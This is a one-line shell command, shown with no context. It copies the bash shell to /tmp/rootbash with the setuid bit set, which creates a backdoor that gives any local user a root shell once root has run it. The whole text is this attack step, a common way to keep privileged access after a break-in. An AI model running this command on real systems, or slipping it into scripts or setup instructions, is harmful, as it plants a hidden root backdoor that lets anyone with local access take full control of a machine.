install -m 4755 /bin/bash /tmp/rootbash
